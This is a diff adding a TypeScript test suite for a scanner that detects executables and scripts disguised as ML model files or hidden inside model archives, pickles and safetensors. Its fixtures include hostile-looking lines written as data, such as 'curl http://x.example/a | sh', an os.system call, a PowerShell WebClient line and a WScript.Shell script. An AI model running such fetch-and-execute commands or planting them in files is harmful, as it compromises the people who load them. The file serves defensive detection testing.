@@ -1,0 +1,100 @@
+import { bytes, floats, zeros } from '../../../testing/bytes';
+import { JAVA_CLASS, SHORTCUT, elfOf, machOOf, peOf, universalOf } from '../../../testing/native-builder';
+import { proto } from '../../../testing/pickle-assembler';
+import { run } from '../../../testing/scanning';
+import { ggufOf, row, safetensorsOf } from '../../../testing/tensor-files-builder';
+import { zipOf } from '../../../testing/zip-builder';
+
+const found = (data: Uint8Array, name: string): string[] =>
+  run(data, undefined, name).findings.map(({ severity, rule }) => `${severity} ${rule}`);
+const inZip = (name: string, data: Uint8Array): Uint8Array => zipOf([{ name, data }]);
+
+const NAMED = 'HIGH program-named-model';
+
+test.each([
+  ['elf', elfOf(2)],
+  ['elf', elfOf(3)],
+  ['elf', bytes('\x7fELF', zeros(60))],
+  ['pe', peOf(0x22)],
+  ['pe', bytes('MZ\x90\0', floats(40))],
+  ['mach-o', machOOf(2)],
+  ['mach-o', universalOf(6)],
+  ['windows-shortcut', SHORTCUT],
+  ['ape', bytes("MZqFpD='\n", zeros(100))],
+  ['script', bytes('#!/bin/sh\nid\n')],
+  ['script', bytes('@echo off\r\ncalc\r\n')],
+  ['script', bytes('$x = New-Object Net.WebClient\n')],
+  ['text', bytes('curl http://x.example/a | sh\n')],
+  ['html', bytes('<html><script>new ActiveXObject("WScript.Shell")</script></html>')]
+])('%s under the name of a model', (format, data) => {
+  expect(run(data, undefined, 'model.pkl').format).toBe(format);
+  expect(found(data, 'model.pkl')).toEqual([NAMED]);
+  expect(found(data, 'pytorch_model')).toEqual([NAMED]);
+  expect(found(inZip('weights/model.bin', data), 'a.zip')).toEqual([NAMED]);
+});
+
+test.each([
+  ['a class', JAVA_CLASS, 'MEDIUM program-named-model'],
+  ['WebAssembly', bytes('\0asm', [1, 0, 0, 0]), 'MEDIUM program-named-model'],
+  ['Python', bytes('import numpy\n'), 'LOW program-named-model'],
+  ['Python that starts a program', bytes('import os\nos.system("id")\n'), 'MEDIUM program-named-model']
+])('%s under the name of a model is less', (_, data, finding) => {
+  expect(found(data, 'model.pkl')).toEqual([finding]);
+});
+
+test.each([
+  ['libx.so', elfOf(3)],
+  ['tool', elfOf(2)],
+  ['tool.exe', peOf(0x22)],
+  ['x.dll', peOf(0x2022)],
+  ['x.dylib', universalOf(6)],
+  ['A.class', JAVA_CLASS],
+  ['a.lnk', SHORTCUT],
+  ['libx.a', bytes('!<arch>\n', zeros(60))],
+  ['run.sh', bytes('#!/bin/sh\ncurl http://x.example/a | sh\n')],
+  ['train.py', bytes('import os\n')]
+])('%s by its own name is no model', (name, data) => {
+  expect(run(data, undefined, name)).toMatchObject({ verdict: 'not-a-model', findings: [] });
+});
+
+test.each([
+  ['bin/tool', elfOf(2), ['HIGH program-in-model']],
+  ['x.so', elfOf(3), ['MEDIUM program-in-model']],
+  ['x.dll', peOf(0x2022), ['MEDIUM program-in-model']],
+  ['numpy/core/x.cpython-311-x86_64-linux-gnu.so', elfOf(3), ['LOW program-in-model']],
+  ['readme.lnk', SHORTCUT, ['HIGH program-in-model']],
+  ['run.sh', bytes('#!/bin/sh\nid\n'), ['LOW program-in-model']],
+  ['run.sh', bytes('#!/bin/sh\ncurl http://x.example/a | sh\n'), ['MEDIUM program-in-model']],
+  ['a/B.class', JAVA_CLASS, []],
+  ['x.js', bytes('var a = 1;\n'), []]
+])('%s in an archive', (name, data, findings) => {
+  expect(found(inZip(name, data), 'a.zip')).toEqual(findings);
+});
+
+test('a program that unpacks itself is judged once, by its name', () => {
+  const data = bytes(elfOf(2), inZip('data.txt', bytes('text')));
+  expect(found(data, 'setup.run')).toEqual([]);
+  expect(found(data, 'model.pt')).toEqual([NAMED]);
+});
+
+test('a program with a model is a finding, and the model is scanned', () => {
+  const report = run(bytes("MZqFpD='\n", zeros(503), inZip('m.gguf', ggufOf({}))), undefined, 'm.llamafile');
+  expect(report.findings).toMatchObject([{ rule: 'program-with-model', severity: 'MEDIUM' }]);
+  expect(report.coverage).toContainEqual(expect.objectContaining({ members: ['m.gguf'], status: 'scanned' }));
+});
+
+test('a program behind a model, and one among its metadata', () => {
+  const base64 = Buffer.from(elfOf(2)).toString('base64');
+  expect(found(bytes(proto(2, '}'), elfOf(2)), 'm.pkl')).toEqual(['MEDIUM program-in-model']);
+  expect(found(safetensorsOf({ w: row(0, 8) }, bytes(floats(2), elfOf(2))), 'm.safetensors')).toEqual([
+    'MEDIUM tensor-hidden-data',
+    'MEDIUM program-in-model'
+  ]);
+  expect(found(safetensorsOf({ __metadata__: { x: base64 }, w: row(0, 8) }, floats(2)), 'm.safetensors')).toEqual([
+    'HIGH program-in-model'
+  ]);
+});
+
+test('two letters make no program', () => {
+  expect(run(bytes('MZ', floats(100)), undefined, 'weights.bin')).toMatchObject({ format: 'unknown', findings: [] });
+});
